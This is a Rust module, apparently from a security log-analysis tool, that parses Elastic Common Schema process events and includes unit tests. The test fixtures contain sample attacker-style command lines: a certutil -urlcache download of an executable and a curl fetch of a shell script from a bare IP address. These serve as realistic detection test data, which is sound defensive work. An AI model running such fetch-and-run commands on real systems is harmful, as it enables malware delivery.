//! Elastic Common Schema process events (Elastic Defend, Auditbeat, winlogbeat pipelines,
//! hand-built Logstash documents), nested or with dotted flat keys.
//!
//! Must not: accept an ECS document whose `event.category` says it is not a process event, or
//! read Sysmon's `winlog.event_data` (that is `sysmon.rs`).

use serde_json::{Map, Value};

use crate::error::EventError;
use crate::event::{Event, Format, Os, join_args};
use crate::formats::{hash_key, join_domain};
use crate::json::{Doc, has_family};

/// What an ECS event must have to say what ran.
const WHAT: &str = "process.command_line, process.executable or process.name";

/// Hash algorithms ECS names under `process.hash`.
const HASHES: [&str; 7] = ["md5", "sha1", "sha256", "sha384", "sha512", "ssdeep", "tlsh"];

/// An object with any `process` field, nested or dotted.
pub(crate) fn matches(obj: &Map<String, Value>) -> bool {
    has_family(obj, "process")
}

pub(crate) fn parse(obj: &Map<String, Value>) -> Result<Event, EventError> {
    let d = Doc::new(Format::Ecs, obj);
    check_category(&d)?;
    let os = ["host.os.type", "host.os.platform", "host.os.family", "host.os.name"]
        .iter()
        .find_map(|p| d.str(p).ok().flatten().and_then(|s| Os::from_hint(&s)))
        .unwrap_or(Os::Unknown);
    let mut e = Event::new(Format::Ecs, os);
    e.host = d.first_str(&["host.hostname", "host.name"])?;
    e.user = join_domain(d.str("user.domain")?, d.str("user.name")?);
    e.process_path = d.str("process.executable")?;
    e.process_name = d.str("process.name")?;
    e.command_line = match d.str("process.command_line")? {
        Some(cl) => Some(cl),
        None => d.str_array("process.args")?.map(|a| join_args(&a, os == Os::Windows)),
    };
    e.pid = d.uint("process.pid")?;
    e.cwd = d.str("process.working_directory")?;
    e.parent_path = d.str("process.parent.executable")?;
    e.parent_name = d.str("process.parent.name")?;
    e.parent_command_line = match d.str("process.parent.command_line")? {
        Some(cl) => Some(cl),
        None => d.str_array("process.parent.args")?.map(|a| join_args(&a, os == Os::Windows)),
    };
    e.ppid = match d.uint("process.parent.pid")? {
        Some(p) => Some(p),
        None => d.uint("process.ppid")?,
    };
    e.timestamp = d.text("@timestamp")?;
    e.container = d.str("container.id")?.map(|id| match d.str("container.image.name").ok().flatten() {
        Some(image) => format!("{id} ({image})"),
        None => id,
    });
    for alg in HASHES {
        if let Some(v) = d.str(&format!("process.hash.{alg}"))? {
            e.hashes.insert(hash_key(alg), v);
        }
    }
    e.finish(WHAT)
}

/// `event.category` may be a string or an array; when present it must include "process".
fn check_category(d: &Doc<'_>) -> Result<(), EventError> {
    let Some(cat) = d.get("event.category") else {
        return Ok(());
    };
    let is_process = match cat {
        Value::String(s) => s == "process",
        Value::Array(items) => items.iter().any(|v| v.as_str() == Some("process")),
        other => return Err(d.bad("event.category", "a string or an array of strings", other)),
    };
    if is_process {
        return Ok(());
    }
    Err(EventError::NotProcessCreation {
        format: Format::Ecs,
        found: format!("event.category {cat}"),
        expected: "event.category \"process\"",
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn run(v: Value) -> Result<Event, EventError> {
        parse(v.as_object().unwrap())
    }

    #[test]
    fn nested_elastic_defend_document() {
        let e = run(json!({
            "@timestamp": "2024-03-12T09:14:07.331Z",
            "event": {"category": ["process"], "type": ["start"], "kind": "event"},
            "host": {"hostname": "WS-0142", "os": {"type": "windows", "family": "windows"}},
            "user": {"name": "jdoe", "domain": "CORP"},
            "process": {
                "pid": 5524, "executable": "C:\\Windows\\System32\\certutil.exe", "name": "certutil.exe",
                "command_line": "certutil -urlcache -f http://x/a.exe a.exe",
                "working_directory": "C:\\Users\\jdoe\\",
                "hash": {"sha256": "aa", "md5": "bb"},
                "parent": {"pid": 4100, "executable": "C:\\Windows\\System32\\cmd.exe", "command_line": "cmd.exe"}
            }
        }))
        .unwrap();
        assert_eq!(e.os, Os::Windows);
        assert_eq!(e.user.as_deref(), Some("CORP\\jdoe"));
        assert_eq!(e.parent_name.as_deref(), Some("cmd.exe"));
        assert_eq!(e.ppid, Some(4100));
        assert_eq!(e.hashes.get("sha256").map(String::as_str), Some("aa"));
        assert_eq!(e.timestamp.as_deref(), Some("2024-03-12T09:14:07.331Z"));
    }

    #[test]
    fn dotted_flat_keys() {
        let e = run(json!({
            "@timestamp": "2024-03-12T09:14:07Z",
            "event.category": "process",
            "host.os.platform": "ubuntu",
            "host.name": "web-03",
            "user.name": "www-data",
            "process.executable": "/usr/bin/curl",
            "process.args": ["curl", "-s", "http://203.0.113.9/x.sh"],
            "process.pid": "8812",
            "process.parent.executable": "/bin/sh",
            "process.hash.sha256": "cc"
        }))
        .unwrap();
        assert_eq!(e.os, Os::Linux);
        assert_eq!(e.process_name.as_deref(), Some("curl"));
        assert_eq!(e.command_line.as_deref(), Some("curl -s http://203.0.113.9/x.sh"));
        assert_eq!(e.pid, Some(8812));
        assert_eq!(e.parent_name.as_deref(), Some("sh"));
        assert_eq!(e.host.as_deref(), Some("web-03"));
    }

    #[test]
    fn os_from_path_when_host_os_is_absent() {
        let e = run(json!({"process": {"executable": "/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal"}}))
            .unwrap();
        assert_eq!(e.os, Os::Macos);
        assert_eq!(e.process_name.as_deref(), Some("Terminal"));
    }

    #[test]
    fn non_process_category_is_rejected() {
        let err = run(json!({"event": {"category": ["network"]}, "process": {"name": "chrome.exe"}})).unwrap_err();
        assert_eq!(
            err.to_string(),
            "ECS event.category [\"network\"] is not a process creation (event.category \"process\")"
        );
    }

    #[test]
    fn missing_process_fields_are_named() {
        let err = run(json!({"event": {"category": "process"}, "process": {"pid": 4}})).unwrap_err();
        assert_eq!(err.to_string(), "ECS event has no process.command_line, process.executable or process.name");
    }
}
